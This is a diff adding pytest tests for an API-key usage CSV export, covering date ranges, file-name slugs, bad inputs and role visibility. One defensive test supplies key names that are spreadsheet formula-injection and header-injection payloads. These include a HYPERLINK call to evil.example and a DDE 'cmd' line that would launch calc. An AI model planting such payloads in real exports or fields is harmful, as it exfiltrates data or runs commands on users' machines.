@@ -531,6 +531,106 @@ def test_detail_of_someone_elses_key_is_not_found(demo, login, make_key):
     assert ApiKey.objects.get(pk=advanced_key.pk).revoked_at is None
 
 
+# ---------------------------------------------------------------- usage as CSV
+
+CSV_ROW = re.compile(r"\d{4}-\d{2}-\d{2},\d+,\d+,\d+")
+
+
+def _csv_lines(response) -> list[str]:
+    return response.content.decode("utf-8").splitlines()
+
+
+def test_usage_csv_has_every_day_and_a_safe_file_name(demo, login, make_key):
+    key = make_key(name="ERP production").key
+    today = timezone.now().date()
+    KeyUsageDay.objects.create(
+        key=key, day=today, total=100, success=90, client_errors=4, denied=2, rate_limited=3, server_errors=1
+    )
+    KeyUsageDay.objects.create(key=key, day=today - timedelta(days=6), total=8, success=8)
+    KeyUsageDay.objects.create(key=key, day=today - timedelta(days=7), total=50, success=50)  # 8 days ago
+    client = login("support@acme.test")  # Support reads usage too
+    detail = client.get(f"/settings/api-keys/{key.pk}/").content.decode()
+    assert f'href="/settings/api-keys/{key.pk}/usage.csv?days=30"' in detail and ">Download CSV</a>" in detail
+    for days in (7, 90):
+        assert f'href="/settings/api-keys/{key.pk}/usage.csv?days={days}"' in detail
+
+    response = client.get(f"/settings/api-keys/{key.pk}/usage.csv?days=7")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    first = today - timedelta(days=6)
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="erp-production-usage-{first:%Y-%m-%d}-{today:%Y-%m-%d}.csv"'
+    )
+    lines = _csv_lines(response)
+    assert lines[0] == "date,calls,errors,rate_limited"
+    assert lines[1:] == [
+        f"{first:%Y-%m-%d},8,0,0",
+        *(f"{today - timedelta(days=n):%Y-%m-%d},0,0,0" for n in range(5, 0, -1)),
+        f"{today:%Y-%m-%d},100,7,3",
+    ]
+    # Without ?days: the last 30 days, as on the page.
+    default = client.get(f"/settings/api-keys/{key.pk}/usage.csv")
+    assert len(_csv_lines(default)) == 31 and _csv_lines(default)[-1] == f"{today:%Y-%m-%d},100,7,3"
+    assert (
+        f"-usage-{today - timedelta(days=29):%Y-%m-%d}-{today:%Y-%m-%d}.csv" in default["Content-Disposition"]
+    )
+    assert len(_csv_lines(client.get(f"/settings/api-keys/{key.pk}/usage.csv?days=90"))) == 91
+
+
+@pytest.mark.parametrize(
+    ("name", "slug"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1, "Click")', "hyperlinkhttpevilexamplexa1-click"),
+        ("+cmd|' /C calc'!A0", "cmd-c-calca0"),
+        ('report"; filename="evil.exe', "report-filenameevilexe"),
+        ("Ключ ☃", "api-key"),  # nothing left for a file name: a neutral one
+    ],
+)
+def test_a_key_name_cannot_reach_the_csv_cells_or_its_file_name(demo, login, make_key, name, slug):
+    key = make_key(name=name).key
+    KeyUsageDay.objects.create(key=key, day=timezone.now().date(), total=3, success=2, denied=1)
+    response = login("advanced@acme.test").get(f"/settings/api-keys/{key.pk}/usage.csv?days=2")
+    assert response.status_code == 200
+    assert re.fullmatch(
+        rf'attachment; filename="{slug}-usage-\d{{4}}-\d{{2}}-\d{{2}}-\d{{4}}-\d{{2}}-\d{{2}}\.csv"',
+        response["Content-Disposition"],
+    )
+    header, *rows = _csv_lines(response)
+    assert header == "date,calls,errors,rate_limited" and len(rows) == 2
+    assert all(CSV_ROW.fullmatch(row) for row in rows), rows
+
+
+@pytest.mark.parametrize("days", ["0", "91", "abc", "-7", "1.5", "99999999999999999999"])
+def test_usage_csv_with_bad_days_is_a_clear_400(demo, login, make_key, days):
+    key = make_key(name="k").key
+    response = login("advanced@acme.test").get(f"/settings/api-keys/{key.pk}/usage.csv?days={days}")
+    assert response.status_code == 400
+    assert response["Content-Type"].startswith("text/html")
+    assert "Choose a number of days from 1 to 90" in response.content.decode()
+
+
+def test_usage_csv_follows_the_detail_pages_visibility(demo, login, make_key, make_user):
+    shared = make_key(name="shared", role=Role.ADMIN_API).key
+    south = make_key(name="south", account=demo.south, role=Role.SUPPORT, scopes=["api-keys:read"]).key
+    above = make_key(name="above", role=Role.ADVANCED_ADMIN).key
+    foreign = make_key(organization=demo.globex, name="theirs").key
+    denied = AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED)
+    for email in (ROLE_EMAILS[Role.ADMIN], ROLE_EMAILS[Role.VIEWER]):
+        before = denied.count()
+        response = login(email).get(f"/settings/api-keys/{shared.pk}/usage.csv")
+        assert response.status_code == 403 and "text/csv" not in response["Content-Type"]
+        assert denied.count() == before + 1
+    advanced = login("advanced@acme.test")
+    assert advanced.get(f"/settings/api-keys/{foreign.pk}/usage.csv").status_code == 404
+    assert advanced.get("/settings/api-keys/not-a-uuid/usage.csv").status_code == 404
+    adminapi = login("adminapi@acme.test")
+    assert adminapi.get(f"/settings/api-keys/{above.pk}/usage.csv").status_code == 404  # above its role
+    assert adminapi.get(f"/settings/api-keys/{shared.pk}/usage.csv").status_code == 200
+    make_user("support-north@acme.test", Role.SUPPORT, account=demo.north)
+    north_support = login("support-north@acme.test")
+    assert north_support.get(f"/settings/api-keys/{south.pk}/usage.csv").status_code == 404  # other subtree
+
+
 # ---------------------------------------------------------------- roles × views × methods
 
 ALLOWED = {"advanced", "adminapi"}
@@ -556,6 +656,7 @@ def _views(key_id):
         ),
         ("revoke form", "get", f"/settings/api-keys/{key_id}/revoke/", None, ALLOWED, 200),
         ("revoke", "post", f"/settings/api-keys/{key_id}/revoke/", {}, ALLOWED, 302),
+        ("usage csv", "get", f"/settings/api-keys/{key_id}/usage.csv", None, READERS, 200),
         ("audit log", "get", "/settings/audit-log/", None, READERS, 200),
     ]
 
